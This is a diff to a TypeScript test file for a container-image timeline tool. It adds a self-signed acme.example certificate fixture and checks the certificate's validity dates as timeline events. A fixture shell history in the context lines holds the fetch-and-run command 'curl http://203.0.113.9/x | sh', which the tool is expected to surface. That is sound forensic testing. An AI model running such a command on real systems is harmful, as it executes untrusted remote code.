@@ -13,6 +13,19 @@ const folder = useFolder()
 const BINARY = Buffer.from(Array.from({ length: 70_000 }, (_, index) => (index * 7919) % 256))
 const MTIME = Date.UTC(2026, 5, 1) / 1000
 
+/** Of acme.example, from 2026-11-27 to 2026-12-27; its key was thrown away. */
+const CERTIFICATE = [
+  '-----BEGIN CERTIFICATE-----',
+  'MIIBQjCB9aADAgECAhROy+GzfeMuS9x13CttzX15JZLFxDAFBgMrZXAwFzEVMBMG',
+  'A1UEAwwMYWNtZS5leGFtcGxlMB4XDTI2MTEyNzE4MjIzOVoXDTI2MTIyNzE4MjIz',
+  'OVowFzEVMBMGA1UEAwwMYWNtZS5leGFtcGxlMCowBQYDK2VwAyEAWC++10dd00/y',
+  'yD37QhUFnXqwZCuqVm++R83y5DmaLo2jUzBRMB0GA1UdDgQWBBRjCd8lahYKcRK4',
+  '0DHe7BEaa2zGYTAfBgNVHSMEGDAWgBRjCd8lahYKcRK40DHe7BEaa2zGYTAPBgNV',
+  'HRMBAf8EBTADAQH/MAUGAytlcANBAOnIJ3uLY5caNEv1yF1N8Iyz/2S7kp0dD7kd',
+  '5/0nPaCvoM0/DimwINe+vIF09CDSulGAwh0x9bC4HdXKrTA+TAc=',
+  '-----END CERTIFICATE-----',
+].join('\n')
+
 const run = (args: readonly string[], env: NodeJS.ProcessEnv = {}): Promise<Done> =>
   layergate([...args], {
     directory: folder.path,
@@ -251,6 +264,8 @@ describe('layergate timeline', () => {
           content: `${'0'.repeat(40)} ${'a'.repeat(40)} Ann <ann@acme.com> 1780000000 +0000\tcommit: first\n`,
         },
         { name: 'root/.bash_history', content: '#1780000100\ncurl http://203.0.113.9/x | sh\n' },
+        { name: 'app/tls.pem', content: CERTIFICATE },
+        { name: 'app/bundle.pem', content: `${CERTIFICATE}\n`.repeat(9) },
         { name: 'var/log/dpkg.log', content: '2026-05-28 21:00:00 install curl:amd64 <none> 7.88\n' },
       ),
     )
@@ -267,6 +282,11 @@ describe('layergate timeline', () => {
     expect(kinds).toContain('git Ann <ann@acme.com>: commit: first (aaaaaaaaaaaa)')
     expect(kinds).toContain('shell curl http://203.0.113.9/x | sh')
     expect(kinds).toContain('package install curl:amd64 <none> 7.88')
+    expect(kinds.filter((each: string) => each.startsWith('certificate'))).toEqual([
+      'certificate valid from here: CN=acme.example',
+      'certificate valid up to here: CN=acme.example',
+    ])
+    expect(times).toContain('2026-12-27T18:22:39.000Z')
     expect(kinds).toContain('history COPY . /')
     const told = await run(['timeline', 'image.tar'])
     expect(told.stdout).toContain('future: after today')
